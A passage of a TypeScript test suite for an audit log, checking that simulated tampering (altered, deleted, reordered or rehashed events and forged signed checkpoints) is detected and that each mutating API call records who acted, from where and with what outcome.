/**
 * The audit log: tampering with stored events (altered fields, deleted, reordered, truncated,
 * rehashed) or with the signed checkpoints is detected by verification, directly and through the
 * API; every mutating call records who did what, from where; exports are safe and audited.
 */
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { createHmac, randomBytes } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { auditEventSchema, type AuditVerify } from '../../domain/api.ts';
import { apiRoutes } from '../../server/app.ts';
import { chainHash, verifyRun, GENESIS_HASH } from '../../server/modules/audit/audit.chain.ts';
import { checkpointAudit, verifyAudit } from '../../server/modules/audit/audit.service.ts';
import { eventsAfter } from '../../server/modules/audit/audit.store.ts';
import { totpCode } from '../../server/modules/auth/totp.ts';
import { updateUser } from '../../server/modules/users/users.store.ts';
import { mintToken } from '../../server/modules/events/outbox.service.ts';
import { registrant, webinar } from '../support/events.ts';
import { OPERATOR_TOKEN, cookieOf, createOrganisation, createTestContext, createUser, nextCode, signIn, type TestContext, type TestUser } from '../support/context.ts';

interface EventRow {
  seq: number;
  actor_id: string | null;
  actor_label: string;
  organisation_id: string | null;
  action: string;
  target_type: string | null;
  target_id: string | null;
  outcome: string;
  ip: string | null;
  user_agent: string | null;
  details: Record<string, unknown>;
}

const rows = async (ctx: TestContext, where = 'TRUE', params: unknown[] = []) =>
  (await ctx.deps.db.query<EventRow>(`SELECT * FROM audit_events WHERE ${where} ORDER BY seq`, params)).rows;

/** Changes one character of a string (the last), keeping its length. */
const flipOne = (s: string) => s.slice(0, -1) + (s.endsWith('x') ? 'y' : 'x');

// ============================================================================ tampering

describe('tampering with the stored log is detected', () => {
  let ctx: TestContext;
  let auditorCookie: string;
  let head: number;
  /** A user.create event in the middle of the chain: every field is set. */
  let k: number;

  beforeAll(async () => {
    ctx = await createTestContext();
    const org = (await createOrganisation(ctx)).id;
    const admin = await createUser(ctx, { organisationId: org, roles: ['admin'] });
    const auditor = await createUser(ctx, { organisationId: org, roles: ['auditor'] });
    const adminCookie = await signIn(ctx, admin);
    auditorCookie = await signIn(ctx, auditor);
    const call = (opts: InjectOptions) => ctx.app.inject({ ...opts, remoteAddress: '198.51.100.20', headers: { cookie: adminCookie, 'user-agent': 'audit-chain-test' } });
    const created: string[] = [];
    for (let i = 0; i < 6; i++) {
      const res = await call({ method: 'POST', url: '/api/v1/users', payload: { email: `chain${i}@agency.test`, displayName: `Chain ${i}`, roles: ['investigator'] } });
      expect(res.statusCode).toBe(201);
      created.push(res.json().user.id);
      ctx.clock.advance(1_000);
    }
    expect((await call({ method: 'POST', url: `/api/v1/users/${created[0]}/disable` })).statusCode).toBe(200);
    expect((await call({ method: 'PUT', url: `/api/v1/users/${created[1]}/roles`, payload: { roles: ['coordinator'] } })).statusCode).toBe(200);
    expect((await ctx.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { email: admin.email, password: 'wrong password!', acknowledgeBanner: true } })).statusCode).toBe(401);
    head = (await rows(ctx)).at(-1)!.seq;
    expect(head).toBe(13); // 2 sign-ins × 2, 6 creations, disable, roles, a failed login
    k = (await rows(ctx, "action = 'user.create' AND details->>'email' = 'chain3@agency.test'"))[0]!.seq;
    // Keep pristine copies to restore after each test.
    await ctx.deps.db.query('CREATE TABLE pristine_events AS SELECT * FROM audit_events');
    await ctx.deps.db.query('CREATE TABLE pristine_checkpoints AS SELECT * FROM audit_checkpoints');
  });
  afterAll(() => ctx.close());

  beforeEach(async () => {
    expect(await verifyAudit(ctx.deps)).toEqual({ ok: true, checked: head, firstBad: null });
  });
  afterEach(async () => {
    await ctx.deps.db.query('DELETE FROM audit_events');
    await ctx.deps.db.query('INSERT INTO audit_events SELECT * FROM pristine_events');
    await ctx.deps.db.query('DELETE FROM audit_checkpoints');
    await ctx.deps.db.query('INSERT INTO audit_checkpoints SELECT * FROM pristine_checkpoints');
  });

  /** verifyAudit directly and through the API (as an auditor); both must agree. */
  async function verifyBoth(): Promise<AuditVerify> {
    const direct = await verifyAudit(ctx.deps);
    const res = await ctx.app.inject({ method: 'GET', url: '/api/v1/audit/verify', headers: { cookie: auditorCookie } });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual(direct);
    return direct;
  }

  it('an intact chain verifies, and verification through the API records a signed checkpoint', async () => {
    const result = await verifyBoth();
    expect(result).toEqual({ ok: true, checked: head, firstBad: null });
    const checkpoints = (await ctx.deps.db.query<{ seq: number }>('SELECT seq FROM audit_checkpoints')).rows;
    expect(checkpoints.map((c) => c.seq)).toEqual([head]);
  });

  const fieldTampers: { field: string; change: (e: EventRow) => { set: string; value: unknown } }[] = [
    { field: 'actor_label', change: (e) => ({ set: 'actor_label = $2', value: flipOne(e.actor_label) }) },
    { field: 'details', change: (e) => ({ set: 'details = $2::jsonb', value: JSON.stringify({ ...e.details, email: flipOne(String(e.details.email)) }) }) },
    { field: 'occurred_at (by one millisecond)', change: () => ({ set: "occurred_at = occurred_at + interval '1 millisecond'", value: null }) },
    { field: 'occurred_at (by one microsecond)', change: () => ({ set: "occurred_at = occurred_at + interval '1 microsecond'", value: null }) },
    { field: 'action', change: () => ({ set: 'action = $2', value: 'user.read' }) },
    { field: 'outcome', change: () => ({ set: 'outcome = $2', value: 'failure' }) },
    { field: 'ip', change: (e) => ({ set: 'ip = $2', value: flipOne(e.ip!) }) },
    { field: 'user_agent', change: (e) => ({ set: 'user_agent = $2', value: flipOne(e.user_agent!) }) },
    { field: 'target_id', change: (e) => ({ set: 'target_id = $2', value: flipOne(e.target_id!) }) },
    { field: 'organisation_id', change: () => ({ set: 'organisation_id = NULL', value: null }) },
  ];
  for (const { field, change } of fieldTampers)
    it(`a change to ${field} of one event names that event`, async () => {
      const event = (await rows(ctx, 'seq = $1', [k]))[0]!;
      const { set, value } = change(event);
      const params = set.includes('$2') ? [k, value] : [k];
      const { rowCount } = await ctx.deps.db.query(`UPDATE audit_events SET ${set} WHERE seq = $1`, params);
      expect(rowCount).toBe(1);
      const result = await verifyBoth();
      expect(result.ok).toBe(false);
      expect(result.firstBad).toEqual({ seq: k, reason: 'content does not match its hash (event altered)' });
    });

  it('a changed hash or previous-hash link names the event', async () => {
    // One statement: two conditional updates in a row would flip 'e' → 'f' → 'e' back again.
    const { rowCount } = await ctx.deps.db.query(
      "UPDATE audit_events SET prev_hash = overlay(prev_hash placing (CASE WHEN left(prev_hash, 1) = 'f' THEN 'e' ELSE 'f' END) from 1 for 1) WHERE seq = $1",
      [k],
    );
    expect(rowCount).toBe(1);
    expect((await verifyBoth()).firstBad).toEqual({ seq: k, reason: 'previous-hash link does not match the preceding event' });
  });

  it('deleting an event in the middle is detected at the gap', async () => {
    expect((await ctx.deps.db.query('DELETE FROM audit_events WHERE seq = $1', [k])).rowCount).toBe(1);
    const result = await verifyBoth();
    expect(result.ok).toBe(false);
    expect(result.firstBad).toEqual({ seq: k + 1, reason: `expected sequence ${k}, found ${k + 1} (events deleted or reordered)` });
  });

  it('swapping two events (reordering) is detected', async () => {
    await ctx.deps.db.query('UPDATE audit_events SET seq = -1 WHERE seq = $1', [k]);
    await ctx.deps.db.query('UPDATE audit_events SET seq = $1 WHERE seq = $2', [k, k + 1]);
    await ctx.deps.db.query('UPDATE audit_events SET seq = $1 WHERE seq = -1', [k + 1]);
    const result = await verifyBoth();
    expect(result.ok).toBe(false);
    expect(result.firstBad!.seq).toBe(k);
  });

  it('deleting the newest events after a checkpoint (truncation) is detected', async () => {
    expect(await checkpointAudit(ctx.deps)).toEqual({ seq: head });
    expect((await ctx.deps.db.query('DELETE FROM audit_events WHERE seq > $1', [head - 3])).rowCount).toBe(3);
    const result = await verifyBoth();
    expect(result.ok).toBe(false);
    expect(result.firstBad).toEqual({ seq: head - 2, reason: expect.stringMatching(new RegExp(`after sequence ${head - 3} are missing.*records sequence ${head}.*truncated`)) });
  });

  it('deleting every event is detected by the checkpoint', async () => {
    await checkpointAudit(ctx.deps);
    await ctx.deps.db.query('DELETE FROM audit_events');
    expect((await verifyBoth()).firstBad).toMatchObject({ seq: 1, reason: expect.stringContaining('truncated') });
  });

  it('a forged checkpoint signature is detected', async () => {
    await checkpointAudit(ctx.deps);
    const { signature } = (await ctx.deps.db.query<{ signature: string }>('SELECT signature FROM audit_checkpoints')).rows[0]!;
    await ctx.deps.db.query('UPDATE audit_checkpoints SET signature = $1', [flipOne(signature)]);
    expect((await verifyBoth()).firstBad).toEqual({ seq: head, reason: `checkpoint at sequence ${head} has an invalid signature` });
  });

  it('a checkpoint signed with another key (an attacker’s) is detected', async () => {
    const createdAt = ctx.clock.now().toISOString();
    const { hash } = (await ctx.deps.db.query<{ hash: string }>('SELECT hash FROM audit_events WHERE seq = $1', [k])).rows[0]!;
    const signature = createHmac('sha256', randomBytes(32)).update(`${k}|${hash}|${createdAt}`).digest('hex');
    await ctx.deps.db.query('INSERT INTO audit_checkpoints (seq, hash, created_at, signature) VALUES ($1, $2, $3, $4)', [k, hash, createdAt, signature]);
    expect((await verifyBoth()).firstBad).toEqual({ seq: k, reason: `checkpoint at sequence ${k} has an invalid signature` });
  });

  it('a rewritten, fully rehashed chain is consistent in itself but detected by the checkpoint', async () => {
    await checkpointAudit(ctx.deps);
    // The attacker alters event k and recomputes every hash after it, as the writer would.
    const events = await eventsAfter(ctx.deps.db, 0, 100_000);
    let prev = GENESIS_HASH;
    for (const event of events) {
      const { prevHash: _p, hash: oldHash, ...fields } = event;
      if (event.seq === k) fields.details = { ...fields.details, email: 'someone.else@agency.test' };
      const hash = chainHash(prev, fields);
      if (event.seq >= k) {
        await ctx.deps.db.query('UPDATE audit_events SET details = $2::jsonb, prev_hash = $3, hash = $4 WHERE seq = $1', [event.seq, JSON.stringify(fields.details), prev, hash]);
        expect(hash).not.toBe(oldHash);
      }
      prev = hash;
    }
    // The chain alone no longer shows it...
    expect(verifyRun(await eventsAfter(ctx.deps.db, 0, 100_000), { seq: 0, hash: GENESIS_HASH }).broken).toBeNull();
    // ...the signed checkpoint does.
    const result = await verifyBoth();
    expect(result.ok).toBe(false);
    expect(result.firstBad).toEqual({ seq: head, reason: `event ${head} differs from the signed checkpoint` });
  });
});

// ======================================================================== what is recorded

describe('what each mutating call records', () => {
  let ctx: TestContext;
  let org: string;
  let admin: TestUser;
  let adminCookie: string;
  let auditorCookie: string;
  let n = 0;

  beforeAll(async () => {
    ctx = await createTestContext();
    org = (await createOrganisation(ctx)).id;
    admin = await createUser(ctx, { organisationId: org, roles: ['admin'] });
    adminCookie = await signIn(ctx, admin);
    auditorCookie = await signIn(ctx, await createUser(ctx, { organisationId: org, roles: ['auditor'] }));
  });
  afterAll(() => ctx.close());

  /** Every route this suite exercised, to compare with the declared mutating routes. */
  const exercised = new Set<string>();

  /**
   * Sends one request with its own user agent and address, expects `status`, and returns the
   * events it recorded: those found by that user agent (`events`), and every event appended
   * meanwhile (`all`: public registrant steps are recorded without address or user agent).
   */
  async function send(route: string, status: number, opts: Omit<InjectOptions, 'method' | 'url'> & { url?: string; cookie?: string; operator?: boolean }) {
    const [method, template] = route.split(' ') as [InjectOptions['method'], string];
    exercised.add(route);
    const ua = `step-${++n} ${route}`;
    const remoteAddress = opts.operator ? '127.0.0.1' : `192.0.2.${n}`;
    const headers: Record<string, string> = { ...(opts.headers as Record<string, string> | undefined), 'user-agent': ua };
    if (opts.cookie) headers.cookie = opts.cookie;
    if (opts.operator) headers.authorization = `Bearer ${OPERATOR_TOKEN}`;
    const head = (await ctx.deps.db.query<{ seq: number }>('SELECT coalesce(max(seq), 0)::int AS seq FROM audit_events')).rows[0]!.seq;
    const res: LightMyRequestResponse = await ctx.app.inject({ method, url: opts.url ?? template, remoteAddress, headers, ...(opts.payload !== undefined ? { payload: opts.payload } : {}) });
    expect(res.statusCode, `${route}: ${res.body}`).toBe(status);
    const events = await rows(ctx, 'user_agent = $1', [ua]);
    const all = await rows(ctx, 'seq > $1', [head]);
    return { res, events, all, ip: remoteAddress, ua };
  }

  it('records actor, organisation, action, target, outcome, ip and user agent for every mutating auth and user call', async () => {
    const user = await createUser(ctx, { organisationId: org, roles: ['investigator'] });
    const actorOf = (u: TestUser) => ({ actor_id: u.id, actor_label: u.email, organisation_id: org });

    // -- sign-in
    let s = await send('POST /api/v1/auth/login', 200, { payload: { email: user.email, password: user.password, acknowledgeBanner: true } });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'auth.login', target_type: 'user', target_id: user.id, outcome: 'success', ip: s.ip, user_agent: s.ua })]);
    let cookie = cookieOf(s.res);
    s = await send('POST /api/v1/auth/mfa/verify', 400, { cookie, payload: { code: '000000' } });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'auth.mfa', target_id: user.id, outcome: 'failure', ip: s.ip, user_agent: s.ua })]);
    s = await send('POST /api/v1/auth/mfa/verify', 200, { cookie, payload: { code: nextCode(ctx, user.totpSecret!) } });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'auth.mfa', target_id: user.id, outcome: 'success', ip: s.ip, user_agent: s.ua, details: { method: 'totp' } })]);
    cookie = cookieOf(s.res);

    // -- failed logins: the known account's organisation, and none for an unknown one
    s = await send('POST /api/v1/auth/login', 401, { payload: { email: user.email, password: 'not the password', acknowledgeBanner: true } });
    expect(s.events).toEqual([expect.objectContaining({ actor_id: null, actor_label: 'anonymous', organisation_id: org, action: 'auth.login', target_id: user.id, outcome: 'failure', ip: s.ip, user_agent: s.ua, details: { email: user.email, reason: 'bad_password' } })]);
    s = await send('POST /api/v1/auth/login', 401, { payload: { email: 'nobody@agency.test', password: 'whatever it is', acknowledgeBanner: true } });
    expect(s.events).toEqual([expect.objectContaining({ actor_id: null, organisation_id: null, action: 'auth.login', outcome: 'failure', ip: s.ip, user_agent: s.ua, details: { email: 'nobody@agency.test', reason: 'unknown_account' } })]);

    // -- the account's own settings
    s = await send('POST /api/v1/auth/password', 200, { cookie, payload: { currentPassword: user.password, newPassword: 'plum orchard lantern 47' } });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'user.password.change', target_id: user.id, outcome: 'success', ip: s.ip, user_agent: s.ua })]);
    s = await send('POST /api/v1/account/recovery-codes', 200, { cookie });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'user.mfa.recovery_codes', target_id: user.id, ip: s.ip, user_agent: s.ua })]);
    s = await send('POST /api/v1/account/tokens', 201, { cookie, payload: { name: 'nightly export' } });
    const tokenId = s.res.json().token.id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'token.create', target_type: 'api_token', target_id: tokenId, ip: s.ip, user_agent: s.ua, details: { name: 'nightly export' } })]);
    s = await send('DELETE /api/v1/account/tokens/:id', 200, { cookie, url: `/api/v1/account/tokens/${tokenId}` });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'token.revoke', target_type: 'api_token', target_id: tokenId, ip: s.ip, user_agent: s.ua })]);
    const other = await signIn(ctx, { ...user, password: 'plum orchard lantern 47' });
    const otherId = (await ctx.deps.db.query<{ id: string }>("SELECT id FROM sessions WHERE user_id = $1 AND ended_at IS NULL AND mfa_verified ORDER BY created_at DESC, id LIMIT 1", [user.id])).rows[0]!.id;
    s = await send('DELETE /api/v1/account/sessions/:id', 200, { cookie, url: `/api/v1/account/sessions/${otherId}` });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'session.end', target_type: 'session', target_id: otherId, ip: s.ip, user_agent: s.ua, details: { reason: 'ended_by_user' } })]);
    expect((await ctx.app.inject({ method: 'GET', url: '/api/v1/auth/me', headers: { cookie: other } })).statusCode).toBe(401);
    s = await send('POST /api/v1/auth/logout', 200, { cookie });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(user), action: 'auth.logout', target_type: 'session', ip: s.ip, user_agent: s.ua })]);

    // -- MFA enrolment
    const enrolling = await createUser(ctx, { organisationId: org, mfa: false });
    await updateUser(ctx.deps.db, enrolling.id, { must_change_password: false });
    const partial = cookieOf(await ctx.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { email: enrolling.email, password: enrolling.password, acknowledgeBanner: true } }));
    s = await send('POST /api/v1/auth/mfa/totp/setup', 200, { cookie: partial });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(enrolling), action: 'user.mfa.setup', target_id: enrolling.id, ip: s.ip, user_agent: s.ua })]);
    s = await send('POST /api/v1/auth/mfa/totp/enable', 200, { cookie: partial, payload: { code: totpCode(s.res.json().secret, ctx.clock.now()) } });
    expect(s.events).toEqual([expect.objectContaining({ ...actorOf(enrolling), action: 'user.mfa.enable', target_id: enrolling.id, ip: s.ip, user_agent: s.ua })]);

    // -- administration
    const adminActor = { actor_id: admin.id, actor_label: admin.email, organisation_id: org };
    s = await send('POST /api/v1/users', 201, { cookie: adminCookie, payload: { email: 'Created.Person@Agency.test', displayName: 'Created', roles: ['investigator', 'prosecutor'] } });
    const created = s.res.json().user.id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...adminActor, action: 'user.create', target_type: 'user', target_id: created, outcome: 'success', ip: s.ip, user_agent: s.ua, details: { email: 'created.person@agency.test', roles: ['investigator', 'prosecutor'] } })]);
    for (const action of ['disable', 'enable', 'unlock', 'reset-mfa'] as const) {
      s = await send(`POST /api/v1/users/:id/${action}`, 200, { cookie: adminCookie, url: `/api/v1/users/${created}/${action}` });
      expect(s.events).toEqual([expect.objectContaining({ ...adminActor, action: `user.${action}`, target_type: 'user', target_id: created, outcome: 'success', ip: s.ip, user_agent: s.ua })]);
    }
    s = await send('POST /api/v1/users/:id/reset-password', 200, { cookie: adminCookie, url: `/api/v1/users/${created}/reset-password` });
    expect(s.events).toEqual([expect.objectContaining({ ...adminActor, action: 'user.password.reset', target_id: created, ip: s.ip, user_agent: s.ua })]);
    s = await send('PUT /api/v1/users/:id/roles', 200, { cookie: adminCookie, url: `/api/v1/users/${created}/roles`, payload: { roles: ['coordinator'] } });
    expect(s.events).toEqual([expect.objectContaining({ ...adminActor, action: 'user.roles', target_id: created, ip: s.ip, user_agent: s.ua, details: { from: ['investigator', 'prosecutor'], to: ['coordinator'] } })]);

    // -- the operator (loopback CLI): acts across organisations, recorded as such
    const operator = { actor_id: null, actor_label: 'operator:cli' };
    s = await send('POST /api/v1/users/:id/tokens', 201, { operator: true, url: `/api/v1/users/${created}/tokens`, payload: { name: 'ops script' } });
    const opToken = s.res.json().token.id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...operator, action: 'token.create', target_id: opToken, ip: '127.0.0.1', user_agent: s.ua })]);
    s = await send('DELETE /api/v1/users/:id/tokens/:tokenId', 200, { operator: true, url: `/api/v1/users/${created}/tokens/${opToken}` });
    expect(s.events).toEqual([expect.objectContaining({ ...operator, action: 'token.revoke', target_id: opToken, ip: '127.0.0.1', user_agent: s.ua })]);
    s = await send('POST /api/v1/organisations', 201, { operator: true, payload: { name: 'Another agency (fictitious)', country: 'de' } });
    expect(s.events).toEqual([expect.objectContaining({ ...operator, action: 'organisation.create', target_type: 'organisation', target_id: s.res.json().id, organisation_id: s.res.json().id, ip: '127.0.0.1', user_agent: s.ua })]);

    // -- the directory: coordinators edit; every change is recorded, the advice (a read) is not
    const coordinator = await createUser(ctx, { organisationId: org, roles: ['coordinator'] });
    const coordCookie = await signIn(ctx, coordinator);
    const coordActor = { actor_id: coordinator.id, actor_label: coordinator.email, organisation_id: org };
    const authority = { country: 'NL', kind: 'contact_point_24_7', name: 'Audit point (fictitious)', availability: '24/7', timeZone: 'Europe/Amsterdam', channels: [{ type: 'email', value: 'audit@example.org' }], languages: ['en'], fictitious: true };
    s = await send('POST /api/v1/directory/authorities', 201, { cookie: coordCookie, payload: authority });
    const authorityId = s.res.json().id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...coordActor, action: 'directory.authority.create', target_type: 'authority', target_id: authorityId, ip: s.ip, user_agent: s.ua, details: { name: authority.name, country: 'NL', kind: 'contact_point_24_7' } })]);
    s = await send('PUT /api/v1/directory/authorities/:id', 200, { cookie: coordCookie, url: `/api/v1/directory/authorities/${authorityId}`, payload: { ...authority, languages: ['en', 'nl'] } });
    expect(s.events).toEqual([expect.objectContaining({ ...coordActor, action: 'directory.authority.update', target_id: authorityId, ip: s.ip, user_agent: s.ua, details: expect.objectContaining({ changes: { languages: { from: ['en'], to: ['en', 'nl'] } } }) })]);
    s = await send('DELETE /api/v1/directory/authorities/:id', 200, { cookie: coordCookie, url: `/api/v1/directory/authorities/${authorityId}` });
    expect(s.events).toEqual([expect.objectContaining({ ...coordActor, action: 'directory.authority.delete', target_id: authorityId, ip: s.ip, user_agent: s.ua })]);
    const provider = { name: 'Auditmail', legalEntity: 'Auditmail Inc. (fictitious)', country: 'US', fictitious: true };
    s = await send('POST /api/v1/directory/providers', 201, { cookie: coordCookie, payload: provider });
    const providerId = s.res.json().id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...coordActor, action: 'directory.provider.create', target_type: 'provider', target_id: providerId, ip: s.ip, user_agent: s.ua })]);
    s = await send('PUT /api/v1/directory/providers/:id', 200, { cookie: coordCookie, url: `/api/v1/directory/providers/${providerId}`, payload: { ...provider, preservationDays: 90 } });
    expect(s.events).toEqual([expect.objectContaining({ ...coordActor, action: 'directory.provider.update', target_id: providerId, details: expect.objectContaining({ changes: { preservationDays: { from: null, to: 90 } } }) })]);
    s = await send('POST /api/v1/routes/advise', 200, { cookie: coordCookie, payload: { from: 'FR', to: { providerId }, data: 'subscriber', purpose: 'preserve' } });
    expect(s.events).toEqual([]);
    s = await send('DELETE /api/v1/directory/providers/:id', 200, { cookie: coordCookie, url: `/api/v1/directory/providers/${providerId}` });
    expect(s.events).toEqual([expect.objectContaining({ ...coordActor, action: 'directory.provider.delete', target_id: providerId })]);
    s = await send('POST /api/v1/directory/import', 200, { cookie: coordCookie, payload: { kind: 'authorities', format: 'json', content: JSON.stringify([authority, authority]) } });
    expect(s.events).toEqual([expect.objectContaining({ ...coordActor, action: 'directory.import', target_type: 'authority', ip: s.ip, user_agent: s.ua, details: expect.objectContaining({ kind: 'authorities', format: 'json', created: 2, updated: 0, unchanged: 0 }) })]);

    // -- cases: every change names the case (its timeline); a supervisor is set by the admin
    const lead = await createUser(ctx, { organisationId: org, roles: ['investigator'] });
    const mate = await createUser(ctx, { organisationId: org, roles: ['prosecutor'] });
    const leadCookie = await signIn(ctx, lead);
    const leadActor = { actor_id: lead.id, actor_label: lead.email, organisation_id: org };
    s = await send('PUT /api/v1/users/:id/supervisor', 200, { cookie: adminCookie, url: `/api/v1/users/${lead.id}/supervisor`, payload: { supervisorId: mate.id } });
    expect(s.events).toEqual([expect.objectContaining({ ...adminActor, action: 'user.supervisor', target_id: lead.id, details: { from: null, to: mate.id } })]);
    s = await send('POST /api/v1/cases', 201, { cookie: leadCookie, payload: { title: 'Audit case', offenceCategories: ['csam_distribution'] } });
    const caseId = s.res.json().id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'case.create', target_type: 'case', target_id: caseId, ip: s.ip, user_agent: s.ua, details: expect.objectContaining({ caseId, title: 'Audit case' }) })]);
    s = await send('PATCH /api/v1/cases/:id', 200, { cookie: leadCookie, url: `/api/v1/cases/${caseId}`, payload: { handlingCode: 'H2' } });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'case.update', target_id: caseId, details: { caseId, changes: { handlingCode: { from: 'H0', to: 'H2' } } } })]);
    s = await send('PUT /api/v1/cases/:id/team/:userId', 200, { cookie: leadCookie, url: `/api/v1/cases/${caseId}/team/${mate.id}`, payload: { teamRole: 'member' } });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'case.member.add', details: expect.objectContaining({ caseId, userId: mate.id, teamRole: 'member' }) })]);
    s = await send('DELETE /api/v1/cases/:id/team/:userId', 200, { cookie: leadCookie, url: `/api/v1/cases/${caseId}/team/${mate.id}` });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'case.member.remove', details: expect.objectContaining({ caseId, userId: mate.id }) })]);
    s = await send('POST /api/v1/cases/:id/notes', 201, { cookie: leadCookie, url: `/api/v1/cases/${caseId}/notes`, payload: { body: 'Called the provider.' } });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'case.note.add', target_type: 'case_note', details: { caseId, length: 20 } })]);
    s = await send('POST /api/v1/cases/:id/identifiers', 201, { cookie: leadCookie, url: `/api/v1/cases/${caseId}/identifiers`, payload: { kind: 'email', value: 'suspect@example.org' } });
    const identifierId = s.res.json().identifier.id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'case.identifier.add', target_type: 'case_identifier', target_id: identifierId, details: expect.objectContaining({ caseId, kind: 'email' }) })]);
    s = await send('DELETE /api/v1/cases/:id/identifiers/:identifierId', 200, { cookie: leadCookie, url: `/api/v1/cases/${caseId}/identifiers/${identifierId}` });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'case.identifier.remove', target_id: identifierId })]);

    // -- requests: drafted, saved, moved on, documents generated; incoming ones registered
    s = await send('POST /api/v1/requests', 201, { cookie: leadCookie, payload: { caseId, type: 'preservation_247', counterpart: { kind: 'contact_point_24_7', name: 'Audit 24/7 (fictitious)', country: 'NL' } } });
    const requestId = s.res.json().id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'request.create', target_type: 'request', target_id: requestId, details: expect.objectContaining({ caseId, type: 'preservation_247' }) })]);
    s = await send('PUT /api/v1/requests/:id/draft', 200, { cookie: leadCookie, url: `/api/v1/requests/${requestId}/draft`, payload: { body: { ...s.res.json().body, facts: 'Changed facts' }, bodyVersion: 1 } });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'request.update', target_id: requestId, details: expect.objectContaining({ caseId, bodyVersion: 2, fields: ['facts'] }) })]);
    s = await send('POST /api/v1/requests/:id/transitions', 200, { cookie: leadCookie, url: `/api/v1/requests/${requestId}/transitions`, payload: { transition: 'withdraw', payload: { reason: 'Data no longer needed' } } });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'request.withdraw', target_id: requestId, details: expect.objectContaining({ caseId, from: 'draft', to: 'withdrawn', reason: 'Data no longer needed' }) })]);
    s = await send('POST /api/v1/requests/:id/documents', 201, { cookie: leadCookie, url: `/api/v1/requests/${requestId}/documents`, payload: { format: 'docx', language: 'fr' } });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'request.document.generate', target_type: 'request_document', details: expect.objectContaining({ caseId, version: 1, bodyVersion: 2, format: 'docx', language: 'fr' }) })]);
    const receiver = await createUser(ctx, { organisationId: org, roles: ['contact_point'] });
    await ctx.app.inject({ method: 'PUT', url: `/api/v1/cases/${caseId}/team/${receiver.id}`, headers: { cookie: leadCookie }, payload: { teamRole: 'member' } });
    s = await send('POST /api/v1/requests/incoming', 201, { cookie: await signIn(ctx, receiver), payload: { caseId, type: 'preservation_247', counterpart: { kind: 'contact_point_24_7', name: 'Foreign 24/7 (fictitious)', country: 'BE' }, receivedAt: '2026-03-02T07:00:00Z', channel: '24/7 network e-mail' } });
    expect(s.events).toEqual([expect.objectContaining({ actor_id: receiver.id, action: 'request.register', target_type: 'request', details: expect.objectContaining({ caseId, type: 'preservation_247' }) })]);

    // -- the calendar feed: turned on and revoked, each recorded
    s = await send('POST /api/v1/account/calendar', 201, { cookie: leadCookie });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'calendar.feed.create', target_id: lead.id })]);
    s = await send('DELETE /api/v1/account/calendar', 200, { cookie: leadCookie });
    expect(s.events).toEqual([expect.objectContaining({ ...leadActor, action: 'calendar.feed.revoke', target_id: lead.id })]);

    // -- the training catalogue: entries, their files, publication (a change like any other)
    const trainer = await createUser(ctx, { organisationId: org, roles: ['trainer'] });
    const trainerCookie = await signIn(ctx, trainer);
    const trainerActor = { actor_id: trainer.id, actor_label: trainer.email, organisation_id: org };
    const course = { title: 'Audit course', provider: 'Audit academy (fictitious)', audiences: ['law_enforcement'], topics: ['osint'], languages: ['en'], format: 'online', level: 'introductory' };
    s = await send('POST /api/v1/training', 201, { cookie: trainerCookie, payload: course });
    const trainingId = s.res.json().id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'training.create', target_type: 'training_item', target_id: trainingId, ip: s.ip, user_agent: s.ua, details: expect.objectContaining({ title: 'Audit course', public: false }) })]);
    s = await send('PUT /api/v1/training/:id', 200, { cookie: trainerCookie, url: `/api/v1/training/${trainingId}`, payload: { ...course, public: true } });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'training.update', target_id: trainingId, details: { title: 'Audit course', changes: { public: { from: false, to: true } } } })]);
    s = await send('POST /api/v1/training/:id/files', 201, { cookie: trainerCookie, url: `/api/v1/training/${trainingId}/files`, headers: { 'content-type': 'application/octet-stream', 'x-file-name': 'notes.txt' }, payload: Buffer.from('Audit notes\n') });
    const trainingFileId = s.res.json().file.id as string;
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'training.file.upload', target_type: 'training_file', target_id: trainingFileId, ip: s.ip, user_agent: s.ua, details: expect.objectContaining({ itemId: trainingId, filename: 'notes.txt', size: 12 }) })]);
    s = await send('DELETE /api/v1/training/:id/files/:fileId', 200, { cookie: trainerCookie, url: `/api/v1/training/${trainingId}/files/${trainingFileId}` });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'training.file.delete', target_id: trainingFileId, details: expect.objectContaining({ itemId: trainingId, purged: true }) })]);
    s = await send('DELETE /api/v1/training/:id', 200, { cookie: trainerCookie, url: `/api/v1/training/${trainingId}` });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'training.delete', target_id: trainingId })]);

